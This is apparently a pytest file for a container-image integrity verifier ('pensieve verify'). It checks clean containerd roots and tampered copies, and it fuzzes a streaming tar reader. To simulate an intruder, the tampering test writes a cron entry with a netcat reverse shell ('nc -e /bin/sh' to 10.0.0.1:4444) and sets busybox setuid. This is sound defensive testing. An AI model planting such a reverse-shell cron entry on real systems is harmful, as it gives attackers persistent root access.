"""``pensieve verify`` on the real containerd 1.6, 1.7 and 2.1 captures: clean roots are ok, with the
digests ctr listed at capture time (``ctr content ls``); copies tampered the ways an intruder
would (a snapshot file's bytes, mode, an added file, a content blob) name each path and how;
a blob gone from the content store leaves its layer unverifiable (exit 5).  The streaming tar
reader is checked against Python's tarfile over generated archives cut into random pieces."""

from __future__ import annotations

import hashlib
import io
import json
import os
import random
import subprocess
import tarfile
from pathlib import Path

import pytest
from conftest import FIXTURE_ROOT, load_json, run_cli, unpack

from pensieve.engines.containerd.verify import TarMembers
from pensieve.formats.tarsplit import TarSplitError

CAPTURES = {
    "1.6": (FIXTURE_ROOT / "containerd" / "containerd-1.6-root.tar.xz", "containerd-1.6-expected.json"),
    "1.7": (FIXTURE_ROOT / "containerd17" / "containerd-1.7-root.tar.xz", "containerd-1.7-expected.json"),
    "2.1": (FIXTURE_ROOT / "containerd2" / "containerd-2.1-root.tar.xz", "containerd-2.1-expected.json"),
}
SNAPSHOTS = "root/io.containerd.snapshotter.v1.overlayfs/snapshots"
BLOBS = "root/io.containerd.content.v1.content/blobs/sha256"


@pytest.fixture(scope="module", params=sorted(CAPTURES))
def capture(request, tmp_path_factory) -> tuple[Path, dict]:
    tarball, expected = CAPTURES[request.param]
    dest = unpack(tarball, tmp_path_factory.mktemp(f"ctr-verify-{request.param}"))
    return dest, load_json(tarball.parent / expected)


def verify_json(source, *args) -> tuple[int, list[dict]]:
    code, out, err = run_cli("verify", str(source), *args, "--json")
    return code, json.loads(out)


def copy_of(source: Path, tmp_path: Path) -> Path:
    """A copy keeping whiteouts (char 0/0), xattrs and owners: cp -a."""
    dest = tmp_path / "copy"
    subprocess.run(["cp", "-a", str(source), str(dest)], check=True)
    return dest


def flip_byte(path: Path, offset: int) -> None:
    data = bytearray(path.read_bytes())
    data[offset] ^= 0x01
    mode = path.stat().st_mode
    path.chmod(0o644)
    path.write_bytes(bytes(data))
    path.chmod(mode & 0o7777)


def test_clean_roots_verify_ok_with_ctrs_digests(capture):
    source, expected = capture
    code, layers = verify_json(source)
    assert code == 0
    assert layers and {v["status"] for v in layers} == {"ok"}
    content = {r["DIGEST"]: r for ns in expected["namespaces"].values() for r in ns["content"]}
    for v in layers:
        assert v["computed_diff_id"] == v["diff_id"] and v["problems"] == []
        blob = "sha256:" + os.path.basename(v["tar_split"])
        # ctr content ls: the blob is there, its uncompressed label is the diff id we computed
        assert blob in content
        label = content[blob]["LABELS"].get("containerd.io/uncompressed")
        assert label in (None, v["computed_diff_id"])
        assert v["layer_path"].endswith(f"/snapshots/{v['cache_id']}/fs") and v["entries"] > 0
    code, images = verify_json(source, "--images")
    assert code == 0 and {i["status"] for i in images} == {"ok"}
    configs = {
        r["LABELS"]["containerd.io/gc.ref.content.config"]
        for r in content.values()
        if "containerd.io/gc.ref.content.config" in r["LABELS"]
    }
    assert {i["computed_id"] for i in images} <= configs
    assert all(i["computed_id"] == i["id"] for i in images)
    namespaces = {t.split("/", 1)[0] for i in images for t in i["tags"]}
    assert namespaces == set(expected["namespaces"]) & namespaces and namespaces


def test_one_image(capture):
    source, expected = capture
    ns = sorted(expected["namespaces"])[0]
    ref = f"{ns}/{expected['namespaces'][ns]['images'][0]['REF']}"
    code, images = verify_json(source, ref, "--images")
    assert code == 0 and len(images) == 1 and images[0]["tags"][0].startswith(ns + "/")


def _image_snapshot(layers: list[dict], top: bool) -> dict:
    """The first verdict of the bottom (busybox) layer, or of the top one."""
    chains = [v for v in layers if (v["parent"] is None) != top]
    return chains[0]


def test_tampering_names_each_path_and_how(capture, tmp_path):
    source, _expected = capture
    _code, layers = verify_json(source)
    bottom = _image_snapshot(layers, top=False)
    top = _image_snapshot(layers, top=True)
    root = copy_of(source, tmp_path)
    base = root / SNAPSHOTS / bottom["cache_id"] / "fs"
    flip_byte(base / "etc" / "passwd", 3)
    (base / "bin" / "busybox").chmod(0o4755)
    (base / "etc" / "cron.evil").write_text("* * * * * root nc -e /bin/sh 10.0.0.1 4444\n")
    blob = root / BLOBS / os.path.basename(top["tar_split"])
    flip_byte(blob, blob.stat().st_size // 2)
    code, got = verify_json(root)
    assert code == 6
    by_cache = {v["cache_id"]: v for v in got}
    hit = by_cache[bottom["cache_id"]]
    assert hit["status"] == "tampered"
    kinds = {(p["path"], p["kind"]) for p in hit["problems"]}
    assert kinds == {("etc/passwd", "content"), ("bin/busybox", "mode"), ("etc/cron.evil", "added")}
    mode = next(p for p in hit["problems"] if p["kind"] == "mode")
    assert (mode["expected"], mode["actual"]) == ("0755", "4755")
    blob_hit = by_cache[top["cache_id"]]
    assert blob_hit["status"] == "tampered"
    assert {p["kind"] for p in blob_hit["problems"]} == {"digest"}
    assert blob_hit["problems"][0]["path"] == "blobs/sha256/" + os.path.basename(top["tar_split"])
    code, images = verify_json(root, "--images")
    assert code == 6 and "tampered" in {i["status"] for i in images}
    code, out, _err = run_cli("verify", str(root), "-v")
    assert code == 6 and "etc/cron.evil" in out and "bin/busybox" in out


def test_snapshot_content_size_and_missing(capture, tmp_path):
    source, _expected = capture
    _code, layers = verify_json(source)
    top = _image_snapshot(layers, top=True)
    root = copy_of(source, tmp_path)
    base = root / SNAPSHOTS / top["cache_id"] / "fs"
    files = sorted(p for p in base.rglob("*") if p.is_file() and not p.is_symlink() and p.stat().st_size)
    assert len(files) >= 2
    with open(files[0], "ab") as fh:
        fh.write(b"appended\n")
    files[1].unlink()
    code, got = verify_json(root)
    assert code == 6
    hit = next(v for v in got if v["cache_id"] == top["cache_id"])
    rel = [str(f.relative_to(base)) for f in files[:2]]
    assert {(p["path"], p["kind"]) for p in hit["problems"]} == {(rel[0], "size"), (rel[1], "missing")}


def test_missing_blob_is_unverifiable(capture, tmp_path):
    source, _expected = capture
    _code, layers = verify_json(source)
    bottom = _image_snapshot(layers, top=False)
    root = copy_of(source, tmp_path)
    (root / BLOBS / os.path.basename(bottom["tar_split"])).unlink()
    code, got = verify_json(root)
    assert code == 5
    gone = [v for v in got if v["chain_id"] == bottom["chain_id"]]
    assert gone and all(v["status"] == "unverifiable" for v in gone)
    assert all("not in the content store" in v["reason"] for v in gone)
    assert all(v["status"] == "ok" for v in got if v["chain_id"] != bottom["chain_id"])


def test_export_layer_writes_the_uncompressed_blob(capture, tmp_path):
    """--export-layer on containerd: the layer blob uncompressed (the tar the diff id names, no
    tar-split to rebuild from), its snapshot compared while it is written; a snapshot changed
    since makes the verdict tampered, the stream is still the layer as pulled."""
    source, _expected = capture
    _code, layers = verify_json(source)
    layer = _image_snapshot(layers, top=True)
    dest = tmp_path / "layer.tar"
    code, _out, err = run_cli("verify", str(source), "--export-layer", layer["chain_id"], "--to", str(dest))
    assert code == 0, err
    assert "sha256:" + hashlib.sha256(dest.read_bytes()).hexdigest() == layer["diff_id"]
    with tarfile.open(dest) as tar:
        assert tar.getmembers()
    assert json.loads((tmp_path / "layer.tar.manifest.json").read_text())["status"] == "ok"
    root = copy_of(source, tmp_path)
    fs = root / layer["layer_path"].lstrip("/")
    (fs / "implant").write_text("x")
    again = tmp_path / "again.tar"
    code, _out, err = run_cli("verify", str(root), "--export-layer", layer["chain_id"], "--to", str(again))
    assert code == 6, err
    assert again.read_bytes() == dest.read_bytes()
    code, _out, err = run_cli("verify", str(source), "--export-layer", "0" * 64, "--to", str(tmp_path / "x"))
    assert code == 4, err


# ---- the streaming tar reader --------------------------------------------------------------------


def _archive(rng: random.Random, fmt: int) -> bytes:
    buf = io.BytesIO()
    with tarfile.open(fileobj=buf, mode="w", format=fmt) as tar:
        for i in range(rng.randrange(1, 12)):
            depth = rng.randrange(1, 4)
            name = "/".join("d" * rng.randrange(1, 90) + str(j) for j in range(depth)) + f"/f{i}"
            info = tarfile.TarInfo(name)
            kind = rng.choice(["file", "file", "dir", "symlink"])
            if kind == "file":
                data = rng.randbytes(rng.choice([0, 1, 511, 512, 513, rng.randrange(5000)]))
                info.size = len(data)
                info.mode = rng.choice([0o644, 0o4755, 0o600])
                info.uid = rng.choice([0, 1000, 3_000_000 if fmt == tarfile.PAX_FORMAT else 7])
                tar.addfile(info, io.BytesIO(data))
            elif kind == "dir":
                info.type = tarfile.DIRTYPE
                tar.addfile(info)
            else:
                info.type = tarfile.SYMTYPE
                info.linkname = "t" * rng.randrange(1, 200)
                tar.addfile(info)
    return buf.getvalue()


def _feed(data: bytes, rng: random.Random) -> list[tuple]:
    got: list[tuple] = []
    members = TarMembers(
        lambda raw, hdr, n, sha: got.append((raw.decode().rstrip("/"), hdr.kind, n, sha, hdr.uid))
    )
    pos = 0
    while pos < len(data):
        step = rng.choice([1, 7, 512, 1000, 1 << 16])
        members.feed(memoryview(data)[pos : pos + step])
        pos += step
    assert members.end
    return got


@pytest.mark.parametrize("fmt", [tarfile.GNU_FORMAT, tarfile.PAX_FORMAT, tarfile.USTAR_FORMAT])
def test_tar_members_match_tarfile(fmt):
    rng = random.Random(fmt)
    for _ in range(40):
        try:
            data = _archive(rng, fmt)
        except ValueError:
            continue  # a name or link too long for ustar
        want = []
        with tarfile.open(fileobj=io.BytesIO(data)) as tar:
            for m in tar:
                payload = tar.extractfile(m).read() if m.isfile() else b""
                kind = {tarfile.DIRTYPE: "dir", tarfile.SYMTYPE: "symlink"}.get(m.type, "file")
                want.append((m.name, kind, len(payload), hashlib.sha256(payload).digest(), m.uid))
        assert _feed(data, rng) == want


def test_tar_members_on_garbage_end_or_raise():
    """Cut or corrupted tar streams never hang or raise anything but TarSplitError."""
    rng = random.Random(7)
    for _ in range(300):
        data = bytearray(_archive(rng, tarfile.PAX_FORMAT))
        for _flip in range(rng.randrange(1, 4)):
            data[rng.randrange(len(data))] = rng.randrange(256)
        data = data[: rng.randrange(len(data) + 1)]
        members = TarMembers(lambda *_a: None)
        try:
            members.feed(bytes(data))
        except TarSplitError:
            pass
